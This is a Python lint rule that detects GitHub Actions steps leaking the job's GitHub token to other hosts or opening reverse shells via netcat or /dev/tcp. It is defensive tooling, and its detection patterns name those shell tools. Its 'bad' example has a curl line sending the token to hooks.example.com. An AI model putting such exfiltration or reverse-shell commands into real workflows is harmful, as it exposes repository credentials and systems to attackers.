"""``run:`` commands that send the job's GitHub credentials to another host, or open a
shell to a remote address (netcat, ``/dev/tcp``)."""

import re

from lintkit.expressions import context_refs
from lintkit.model import Example, Problem, rule

#: Credentials whose only legitimate audience is GitHub itself.
TOKEN_VARIABLES = ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN")
TOKEN_CONTEXTS = ("secrets.GITHUB_TOKEN", "github.token")
#: Hosts (and URL variables) that are GitHub.
GITHUB_HOSTS = re.compile(r"(?:^|\.)(?:github\.com|githubusercontent\.com|ghcr\.io|github\.io|githubapp\.com|actions\.githubusercontent\.com)$", re.IGNORECASE)
GITHUB_URL_VARIABLES = ("GITHUB_API_URL", "GITHUB_SERVER_URL", "GITHUB_GRAPHQL_URL", "ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_RUNTIME_URL", "ACTIONS_RESULTS_URL")
GITHUB_URL_CONTEXTS = ("github.api_url", "github.server_url", "github.graphql_url")
NETCAT = frozenset(("nc", "netcat", "ncat"))
_IPV4 = re.compile(r"^\d{1,3}(?:\.\d{1,3}){3}$")
#: Cheap test of whether a script may run netcat, before parsing it.
_NETCAT_WORD = re.compile(r"\b(?:nc|ncat|netcat)\b")


@rule(
    id="GH017",
    name="no-secret-exfiltration",
    severity="error",
    summary="`run:` sends the GitHub token to another host, or opens a shell to a remote address",
    rationale=(
        "The job's GITHUB_TOKEN (and the runtime and OIDC request tokens) act as the workflow "
        "on the repository; GitHub's API is the only place they belong. Sent to another host "
        "with curl or wget they let that host push code, create releases or read private data "
        "while the job runs. netcat to an IP address, `nc -e`, and redirections to /dev/tcp "
        "are how a reverse shell is opened from a compromised step."
    ),
    tags=("security",),
    aliases=("CKV_GHA_3", "CKV_GHA_4"),
    examples=(
        Example(
            bad=(
                "on: push\npermissions: {}\njobs:\n  notify:\n    runs-on: ubuntu-24.04\n    steps:\n"
                "      - run: |\n          curl -H \"Authorization: token ${{ github.token }}\" https://hooks.example.com/build\n"
            ),
            good=(
                "on: push\npermissions: {}\njobs:\n  notify:\n    runs-on: ubuntu-24.04\n    steps:\n"
                "      - run: |\n          curl -H \"Authorization: token ${{ github.token }}\" \"$GITHUB_API_URL/repos/$GITHUB_REPOSITORY\"\n"
            ),
            filename=".github/workflows/notify.yml",
        ),
    ),
)
def check(workflow, ctx):
    for step in workflow.steps:
        run = step.run
        if run is None:
            continue
        token_variables = _token_variables(workflow, step)
        sends = ("curl" in run or "wget" in run) and any(hint in run for hint in (*TOKEN_CONTEXTS, *token_variables))
        if not (sends or "/dev/tcp/" in run or "/dev/udp/" in run or _NETCAT_WORD.search(run)):
            continue
        script = workflow.run_script(step)
        if script is None:
            continue
        for command in script.commands:
            for redirect in command.redirects:
                target = redirect.target
                if target is not None and target.text.startswith(("/dev/tcp/", "/dev/udp/")):
                    yield Problem(target.span, f"redirection to {target.text} opens a connection to a remote host (a reverse shell pattern)")
            name = command.base_name
            if name in NETCAT:
                problem = _netcat(command)
                if problem is not None:
                    yield problem
            elif name in ("curl", "wget"):
                problem = _token_sent_away(workflow, step, command, token_variables)
                if problem is not None:
                    yield problem


def _netcat(command) -> Problem | None:
    execute = command.flag("-e", "-c", "--exec", "--sh-exec", takes_value=("-e", "-c", "--exec", "--sh-exec", "-p", "-s", "-w"))
    if execute is not None:
        return Problem(execute.span, f"`{command.name} {execute.text}` runs a program for whoever connects (a reverse shell pattern)")
    for word in command.positionals(takes_value=("-p", "-s", "-w", "-i", "-q", "-x", "-X")):
        if word.value is not None and _IPV4.match(word.value) and not word.value.startswith(("127.", "0.")):
            return Problem(word.span, f"`{command.name}` connects to the IP address {word.value} (a reverse shell or exfiltration pattern)")
    return None


def _token_variables(workflow, step) -> set[str]:
    """Variables holding the GitHub token: the runner's own, and env entries set from it."""
    env = workflow.env_of(step)
    return set(TOKEN_VARIABLES) | {name for name, value in env.items() if isinstance(value, str) and any(c in value for c in TOKEN_CONTEXTS)}


def _token_sent_away(workflow, step, command, token_variables: set[str]) -> Problem | None:
    carrying = None
    hosts = []
    for word in command.args:
        refs = [ref.path for e in workflow.expressions_in(step, word) for ref in context_refs(e)]
        if carrying is None and (
            any(path in TOKEN_CONTEXTS for path in refs)
            or any(re.search(rf"\$\{{?{name}(?![A-Za-z0-9_])", word.text) for name in token_variables)
        ):
            carrying = word
            continue
        if "://" in word.text or word.text.startswith(("$", "http")):
            hosts.append((word, refs))
    if carrying is None or any(_is_github(word.text, refs) for word, refs in hosts):
        return None
    literal = [host for word, _refs in hosts if "://" in word.text and (host := _host(word.text))]
    if not literal:
        return None  # URLs built from variables: cannot tell where they go
    return Problem(carrying.span, f"`{command.name}` sends the GitHub token to {literal[0]}, which is not GitHub")


def _is_github(text: str, refs: list[str]) -> bool:
    if any(path in GITHUB_URL_CONTEXTS for path in refs):
        return True
    if any(re.match(rf"\$\{{?{name}(?![A-Za-z0-9_])", text) for name in GITHUB_URL_VARIABLES):
        return True
    host = _host(text)
    return host is not None and bool(GITHUB_HOSTS.search(host))


def _host(text: str) -> str | None:
    """The literal host of a URL word (None when the host is computed)."""
    rest = text.split("://", 1)[1] if "://" in text else text
    host = re.split(r"[/:?#]", rest.split("@", 1)[-1], maxsplit=1)[0]
    if not host or "$" in host or "{" in host:
        return None
    return host
